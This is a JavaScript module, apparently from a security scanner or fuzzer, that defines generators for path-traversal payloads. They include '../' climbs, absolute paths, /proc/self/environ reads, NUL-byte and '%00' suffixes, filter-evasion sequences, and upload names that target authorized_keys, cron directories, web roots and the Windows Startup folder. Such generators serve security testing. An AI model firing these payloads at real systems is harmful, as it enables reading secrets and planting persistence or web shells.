import { WINDOWS_APPLICATION_FILES } from '../targets.js';
import { traversalGenerator as generator } from '../traversal-generator.js';
import { absoluteFile } from './absolute-file.js';
import { archiveName } from './archive-name.js';
import { ENCODED_GENERATORS } from './encoded.js';
import { PLATFORM_GENERATORS } from './platform.js';
import { servedNames } from './served-names.js';
import { serverPaths } from './server-paths.js';
import { streamScheme } from './stream-scheme.js';
import { win32Names } from './win32-names.js';

/** Path traversals by how they climb, what they ask for and how they hide it. */
export const TRAVERSAL_GENERATORS = [
  generator({
    name: 'climb',
    posix: { start: ['<../>*{depth}{unix}', '/<../>*{depth}{unix}', '<../>*{depth}{unix}', '<../>*{depth}{process}'] },
  }),
  generator({
    name: 'climb-backslash',
    windows: { start: ['<..\\>*{depth}{dos}', '\\<..\\>*{depth}{dos}', '{folder}\\<..\\>*{depth}{dos}'] },
  }),
  generator({
    name: 'from-folder',
    posix: {
      start: [
        '{folder}/<../>*{depth}{unix}',
        './<../>*{depth}{unix}',
        '{folder}/{folder}/<../>*{depth}{unix}',
        '{file}/<../>*{depth}{unix}',
        '/var/www/html/public/<../>*{depth}{unix}',
        './{folder}/.././<../>*{depth}{unix}',
        '{folder}/<../>*{depth}{application}',
      ],
    },
    windows: {
      start: ['{folder}/<../>*{depth}{dos}', '{folder}\\{folder}\\<..\\>*{depth}{dos}', '.\\<..\\>*{depth}{dos}'],
    },
  }),
  generator({
    name: 'absolute',
    context: 'resolve',
    posix: {
      start: [
        '/{unix}',
        '/{process}',
        '//{unix}',
        '/./{unix}',
        '///{unix}',
        '/{folder}/../{unix}',
        '/usr/../{unix}',
        '/./././{process}',
      ],
    },
    windows: {
      start: ['C:\\{dos}', 'c:/{dos}', 'C:{slashes}{dos}', '\\{dos}'],
      slashes: ['\\\\', '//', '/./', '\\.\\'],
    },
  }),
  generator({
    name: 'process-files',
    posix: {
      start: [
        '<../>*{depth}{process}',
        '<../>*{depth}proc/self/cwd/../../../../{unix}',
        '<../>*{depth}proc/self/root/{unix}',
        '<../>*{depth}proc/{digit}/root/{unix}',
        '<.././>*{depth}{process}',
        '<../>*{depth}proc/./self/../{process2}',
        '<../>*{depth}dev/fd/../../proc/self/environ',
      ],
      process2: ['version', 'mounts', 'self/environ', 'self/cmdline', '1/environ'],
    },
  }),
  generator({
    name: 'application-files',
    posix: {
      start: [
        '<../>*{shallow}{application}',
        '/<../>*{shallow}{application}',
        '{folder}/../<../>*{shallow}{application}',
        './<../>*{shallow}{application}',
        '..//{application}',
        '.././{application}',
        '{file}/../../{application}',
      ],
      shallow: ['1', '1', '1', '2'],
    },
    windows: {
      start: ['<..\\>*{shallow}{dos-application}', '{folder}\\..\\..\\{dos-application}', '../{dos-application}'],
      shallow: ['1', '1', '2'],
      'dos-application': WINDOWS_APPLICATION_FILES,
    },
  }),
  generator({
    name: 'nul-and-suffix',
    posix: {
      start: [
        '<../>*{depth}{unix}{end}',
        '<../>*{depth}{process}{end}',
        '/<../>*{depth}{unix}{end}',
        '{folder}/<../>*{depth}{unix}{end}',
        '<../>*{shallow}{application}{end}',
      ],
      shallow: ['1', '2'],
      end: [
        '\u0000',
        '\u0000{extension}',
        '%00',
        '%00{extension}',
        '%2500{extension}',
        '\u0000{word}{extension}',
        '%00.',
        '\u0000/{file}',
      ],
    },
    windows: {
      start: ['<..\\>*{depth}{dos}{end}'],
      end: ['\u0000', '\u0000{extension}', '%00{extension}', '.', '...', ' ', '::$DATA'],
    },
  }),
  generator({
    name: 'filter-residue',
    posix: {
      start: [
        '<....//>*{depth}{unix}',
        '<..././>*{depth}{unix}',
        '/<....//>*{depth}{unix}',
        '{folder}/<....//>*{depth}{unix}',
        '<..././>*{shallow}{application}',
        '<..././>*{depth}{process}',
      ],
      shallow: ['1', '2'],
    },
    windows: { start: ['<....\\\\>*{depth}{dos}', '<...\\.\\>*{depth}{dos}'] },
  }),
  generator({
    name: 'separators',
    posix: {
      start: [
        '<{s}>*{depth}{unix}',
        '{folder}/<{s}>*{depth}{unix}',
        '/<{s}>*{depth}{unix}',
        '<{s}>*2<{s}>*{depth}{process}',
      ],
      s: ['..//', '../././', '..///', './../', '../{folder}/../', '..//./', './/..//'],
    },
    windows: {
      start: ['<{s}>*{depth}{dos}', '{folder}/<{s}>*{depth}{dos}'],
      s: ['..\\/', '../\\', '..\\.\\', '..\\\\', '.\\..\\', '../', '..//', '..\\{folder}\\..\\'],
    },
  }),
  generator({
    name: 'upload-names',
    location: 'file_names',
    context: 'write',
    posix: {
      start: [
        '<../>*{depth}{place}/{word}{extension}',
        '{folder}/<../>*{depth}{place}/{word}{extension}',
        '/{place}/{word}.sh',
        '<../>*{depth}home/app/.ssh/authorized_keys',
        '<../>*{depth}etc/cron.d/{word}',
        '../{word}{extension}',
        './../../{word}.php',
        '<../>*{depth}var/www/html/{word}.jsp',
      ],
      place: ['tmp', 'var/www', 'usr/local/bin', 'etc/cron.d', 'var/spool/cron'],
    },
    windows: {
      start: [
        '<..\\>*{depth}inetpub\\wwwroot\\{word}.aspx',
        '<../>*{depth}Windows\\Temp\\{word}.exe',
        '..\\{word}.asp',
        'C:\\Users\\Public\\{word}.bat',
        '<..\\>*{depth}ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\{word}.lnk',
      ],
    },
  }),
  ...ENCODED_GENERATORS,
  ...PLATFORM_GENERATORS,
  absoluteFile,
  archiveName,
  serverPaths,
  streamScheme,
  win32Names,
  servedNames,
];
